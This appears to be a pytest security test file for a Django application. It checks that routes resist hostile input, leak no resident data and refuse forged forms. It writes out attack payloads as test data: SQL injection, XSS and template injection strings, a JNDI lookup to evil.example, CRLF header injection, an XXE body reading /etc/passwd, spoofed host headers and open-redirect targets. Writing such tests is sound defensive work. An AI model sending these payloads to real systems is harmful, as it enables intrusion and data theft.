"""What somebody tries who means harm, at every address: words that are code, bodies that are bombs, forged forms."""

import io
import json
import logging
import re
from contextlib import contextmanager

import pytest
import time_machine
from django.conf import settings
from django.test import Client
from django.utils.html import escape
from django.utils.timezone import now

from core.access import PUBLIC
from core.fields import uuid7
from stations.models import Person, User
from tests.api.doors import DOORS, NOUNS, Visitor, add_what_is_missing
from tests.demonstration import taken_back
from tests.factories.stations import token_for

WORDS = (
    "' OR '1'='1' --",
    '"; DROP TABLE stations_person; --',
    "{{7*7}}{% debug %}",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "x\r\nSet-Cookie: owned=1",
    "x\x00y",
    "%00%27%0d%0aX-Owned: 1",
    "村" * 200,
)
#: One of each kind; the others are tried with the slow tests.
WORST = {WORDS[0], WORDS[3], WORDS[6]}
BOMBS = {
    "too large": (b'{"reason": "' + b"a" * 1_048_577 + b'"}', "application/json", {413}),
    "too deep": (b"[" * 100_000, "application/json", {400}),
    "deep and closed": (b'{"a":' * 5_000 + b"1" + b"}" * 5_000, "application/json", {400}),
    "no json": (b"\xff\xfe{", "application/json", {400}),
    "a number that is none": (b'{"amount": NaN}', "application/json", {400}),
    "a list": (b"[1, 2]", "application/json", {400}),
    "a form": (b"a=b", "application/x-www-form-urlencoded", {415}),
    "xml": (b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', "application/xml", {415}),
    "half a form": (b"--x\r\nContent-Disposition: form-data", "multipart/form-data; boundary=x", {400}),
}
API_VERBS = [door for door in DOORS if door.is_api and door.method != "get" and door.noun_is_known]
READS = [door for door in DOORS if door.method == "get" and door.noun_is_known]


@pytest.fixture
def large_requests(caplog):
    """Pytest keeps every log record with its request; a thousand large ones are too much."""
    caplog.set_level(logging.CRITICAL, "django")


@pytest.fixture
def furnished(world):
    add_what_is_missing(world)
    return world


@pytest.mark.parametrize(
    "words",
    [pytest.param(each, id=repr(each[:20]), marks=() if each in WORST else pytest.mark.slow) for each in WORDS],
)
@pytest.mark.parametrize("username", ["partner", "finance"])
def test_words_that_are_code_stay_words_in_every_question(furnished, large_requests, username, words):
    visitor, wrong = Visitor(furnished.user(username), furnished), []
    names = ("q", "number", "amount", "phone_tail", "cursor", "status", "after", "station", "category", "code", "at",
             "date", "lat", "lon", "service", "purpose", "month", "page", "in", "language", "scope")  # fmt: skip
    for door in (door for door in READS if not door.names):
        with taken_back():
            answer = visitor.asks(door, dict.fromkeys(names, words))
        text = answer.getvalue().decode(errors="replace")
        unsafe = "<script>alert(1)" in text and not answer["Content-Type"].startswith("application/")
        if answer.status_code >= 500 or unsafe or "X-Owned" in answer.headers or "owned" in answer.cookies:
            wrong.append((door.route, answer.status_code, getattr(answer, "exc_info", None)))
    assert wrong == []


def test_words_that_are_code_stay_words_when_they_are_stored(furnished):
    words = "<script>alert(1)</script>{{7*7}}"
    Person.objects.filter(pk=furnished.resident.pk).update(full_name=words, preferred_name=words)
    User.objects.filter(username="helper").update(first_name=words)
    furnished.station.name = words[:40]
    furnished.station.save()
    seen = 0
    for username in ("partner", "manager", "auditor"):
        visitor = Visitor(furnished.user(username), furnished)
        for door in (door for door in READS if not door.is_api):
            text = visitor.tries(door).getvalue().decode(errors="replace")
            seen += escape("<script>alert(1)") in text
            assert "<script>alert(1)" not in text, door.route
            assert "</script>49" not in text, door.route
    assert seen > 5


@pytest.mark.parametrize("bomb", BOMBS)
def test_no_body_breaks_a_verb(furnished, large_requests, bomb):
    body, content_type, expected = BOMBS[bomb]
    partner = furnished.user("partner")
    headers = {"Authorization": f"Token {token_for(partner)}"}
    wrong = []
    for door in API_VERBS:
        with taken_back():
            answer = getattr(Client(raise_request_exception=False), door.method)(
                door.path(furnished), body, content_type, headers=headers | {"Idempotency-Key": uuid7().hex}
            )
        ignored = (
            {200, 201, 202, 204, 409, 422} if getattr(door.view, "In", None) is None and bomb == "a list" else set()
        )
        if answer.status_code not in expected | ignored | {403, 404, 415}:
            wrong.append((door.method, door.route, answer.status_code, answer.content[:200]))
    assert wrong == []


def test_no_form_breaks_a_page(furnished):
    visitor = Visitor(furnished.user("partner"), furnished)
    many = {f"field{number}": "1" for number in range(settings.DATA_UPLOAD_MAX_NUMBER_FIELDS + 1)}
    large = {"q": "a" * (settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 1)}
    for content in (many, large):
        answer = visitor.browser.post("/people/", content, headers={})
        assert answer.status_code in {200, 400}
        answer = visitor.browser.generic(
            "POST", "/people/", "&".join(f"{name}={value}" for name, value in content.items()),
            "application/x-www-form-urlencoded",
        )  # fmt: skip
        assert answer.status_code == 400


@contextmanager
def written_logs():
    """What the system writes while this is open."""
    stream = io.StringIO()
    handler = logging.StreamHandler(stream)
    formatter = dict(settings.LOGGING["formatters"]["json"])
    handler.setFormatter(formatter.pop("()")(**formatter))
    logging.getLogger().addHandler(handler)
    try:
        yield stream
    finally:
        logging.getLogger().removeHandler(handler)


#: Where a person's own name is the answer: read back at the counter, or shown for seconds after a reason was given.
SHOWS_A_PERSON = re.compile(
    r"people/<uuid:person_id>/|households/<|people/reveals/<|people/guardianships/<|finance/bills/<uuid"
    r"|finance/loans/(?:applications|running)/<uuid|finance/insurance/(?:claims|policies)/<uuid"
    r"|logistics/parcels/<uuid|orders/(?:purchases|goods-returns|produce/harvests|produce/intakes|produce/farmers)/<uuid"
    r"|health/(?:appointments|chronic)/<uuid|education/safeguarding/children/<uuid"
    r"|education/libraries/book-(?:holds|loans)/<uuid"
    r"|education/courses/(?:classes|lessons|class-enrolments|course-certificates)/"
)


@pytest.mark.parametrize(
    "username",
    [
        *("partner", "manager", "finance", "stranger"),
        *(pytest.param(name, marks=pytest.mark.slow) for name in ("helper", "clerk", "auditor", "admin")),
    ],
)
def test_no_page_list_or_log_tells_of_a_resident_and_no_browser_or_proxy_keeps_what_was_seen(furnished, username):
    user = furnished.stranger if username == "stranger" else furnished.user(username)
    staff = {each.shown_name for each in User.objects.all()}
    people = Person.objects.exclude(full_name__in=staff)
    names = {person.full_name for person in people if len(person.full_name) > 2}
    phones = {str(person.phone).removeprefix("+86") for person in people if person.phone}
    assert len(names) > 20
    assert len(phones) > 20
    visitor, wrong, kept = Visitor(user, furnished), [], []
    with written_logs() as logs:
        for door in READS:
            answer = visitor.tries(door)
            text, policy = answer.getvalue().decode(errors="replace"), answer.get("Cache-Control", "")
            if "no-store" not in policy and not (door.verb == PUBLIC or door.route.endswith("docs/style/")):
                kept.append((door.route, policy))
            found = {each for each in phones if each in text}
            if not SHOWS_A_PERSON.search(door.route):
                found |= {each for each in names if each in text}
            if found:
                wrong.append((door.route, sorted(found)[:3]))
    assert wrong == []
    assert kept == []
    assert {each for each in names | phones if each in logs.getvalue()} == set()
    assert logs.getvalue().count("\n") > 100


def test_a_forged_form_does_nothing_anywhere(furnished):
    partner = furnished.user("partner")
    visitor = Visitor(partner, furnished)
    forger = Client(enforce_csrf_checks=True, raise_request_exception=False)
    forger.cookies = visitor.browser.cookies
    open_stations = []
    for door in DOORS:
        if not door.noun_is_known or (door.is_api and door.method == "get"):
            continue
        send = getattr(forger, door.method if door.is_api else "post")
        with taken_back():
            answer = send(door.path(furnished), {}, "application/json", headers={"Idempotency-Key": uuid7().hex})
        if answer.status_code not in {403, 405, 415}:
            open_stations.append((door.route, answer.status_code))
    assert open_stations == []


def test_an_address_is_never_made_from_what_the_caller_says(furnished, settings):
    settings.ALLOWED_HOSTS = ["testserver"]
    evil = {
        "X-Forwarded-Host": "evil.example",
        "X-Forwarded-Proto": "https",
        "X-Original-URL": "/admin/",
        "X-Rewrite-URL": "/admin/",
        "Forwarded": "host=evil.example",
    }
    visitor = Visitor(furnished.user("partner"), furnished)
    for door in READS:
        with taken_back():
            answer = visitor.browser.get(door.path(furnished), headers=evil)
        assert b"evil.example" not in answer.getvalue(), door.route
        assert "evil.example" not in answer.get("Location", ""), door.route
    for path in ("/", "/sign-in/first/", f"/s/{furnished.station.code}", "/api/v1/divisions/"):
        assert visitor.browser.get(path, headers={"Host": "evil.example"}).status_code == 400, path


@pytest.mark.parametrize(
    "target", ["https://evil.example/", "//evil.example", "/\\evil.example", "javascript:alert(1)"]
)
def test_choosing_a_language_leads_to_no_other_site(world, target):
    answer = Client().post("/language/", {"language": "en", "next": target}, headers={"Referer": target})
    assert answer.status_code == 303
    assert answer["Location"] == "/"


def test_what_is_out_of_reach_and_what_is_not_there_look_the_same(furnished):
    visitor = Visitor(furnished.stranger, furnished)
    compared = 0
    for door in READS:
        if not door.names or "<uuid:" not in door.route:
            continue
        there = door.path(furnished)
        absent = re.sub(r"[0-9a-f]{8}-[0-9a-f-]{27}", str(uuid7()), there)
        with time_machine.travel(now(), tick=False):  # pages tell how long ago something was
            answers = [neutral(visitor.get(door, path), path) for path in (there, absent)]
        if answers[0][0] == 404:
            assert answers[0] == answers[1], door.route
            compared += 1
    assert compared > 8


def neutral(answer, path):
    """Status and text, without what differs at each request."""
    text = answer.content.decode().replace(path, "")
    if answer["Content-Type"].startswith("application/"):
        return answer.status_code, json.loads(text)
    return answer.status_code, re.sub(r'name="(csrfmiddlewaretoken|key)" value="[^"]*"|\d\d:\d\d', "", text)


def test_every_noun_is_tried():
    assert {door.noun for door in DOORS if door.names} <= NOUNS.keys()
